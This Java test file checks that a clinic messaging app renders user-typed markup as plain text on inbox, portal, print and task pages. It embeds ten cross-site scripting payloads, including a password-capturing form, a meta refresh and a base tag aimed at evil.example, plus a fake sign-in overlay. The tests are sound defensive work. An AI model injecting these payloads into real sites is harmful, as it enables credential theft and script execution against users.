package org.postern.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.postern.testing.Page;
import org.postern.testing.Pictures;
import org.postern.testing.PosternTest;

/** Markup that people type stands on every page as they typed it. */
class MarkupTests extends PosternTest {

    private static final List<String> PAYLOADS =
            List.of(
                    "<scr<script>ipt>alert(1)</scr</script>ipt>",
                    "<form action=//evil.example><input name=password>",
                    "<svg><animate onbegin=alert(1)></svg>",
                    "<div style=\"position:fixed;inset:0\">Sign in again</div>",
                    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
                    "<a href=\"javascript:alert(1)\">results</a>",
                    "<meta http-equiv=refresh content=0;url=//evil.example>",
                    "<base href=//evil.example/>",
                    "&lt;script&gt;alert(2)&lt;/script&gt;",
                    "\"><iframe srcdoc=\"<script>alert(1)</script>\">");

    @Test
    @DisplayName(
            "A8, A23: nested tags, forms, SVG and overlays are text on both sides, and in print")
    void markupIsText() {
        var clinic = world.clinic();
        var ana = clinic.as(clinic.ana());
        var chen = clinic.as(clinic.chen());
        var text = String.join("\n", PAYLOADS);
        for (var line : PAYLOADS.subList(0, 3)) {
            var thread = clinic.writes(ana, clinic.chen(), line, text);
            clinic.sendsFile(ana, thread, line.replace('"', '\'') + ".png", Pictures.png(4, 4));
            clinic.replies(chen, thread, text);
            chen.submit(
                    chen.get("/inbox/threads/" + thread),
                    "form[action$='/notes']",
                    Map.of("text", text));
            clinic.makesTask(chen, clinic.chen(), line, "");

            for (var address : List.of("/inbox/threads/" + thread, "/portal/threads/" + thread)) {
                var page = (address.startsWith("/inbox") ? chen : ana).get(address);
                shows(page);
                assertThat(page.html().text()).as(address).contains(PAYLOADS);
            }
            for (var end : List.of("/print", "/copy", "/messages", "/notes", "/tasks/new")) {
                shows(chen.get("/inbox/threads/" + thread + end));
            }
        }
        shows(chen.get("/inbox"));
        shows(chen.get("/tasks"));
        shows(ana.get("/portal/messages"));
        shows(chen.get("/patients/" + clinic.ana().patientId() + "/messages"));
    }

    private static void shows(Page page) {
        assertThat(page.status()).isEqualTo(200);
        assertThat(page.headers().firstValue("Content-Security-Policy")).isPresent();
        if (page.headers().firstValue("Content-Type").orElse("").startsWith("text/plain")) {
            return;
        }
        assertThat(page.body()).doesNotContain(PAYLOADS);
        assertThat(
                        page.html()
                                .select(
                                        "[^on], [href^=javascript:], [style], iframe, base, math,"
                                                + " meta[http-equiv=refresh], animate,"
                                                + " form[action*=evil], [src=x]"))
                .isEmpty();
    }
}
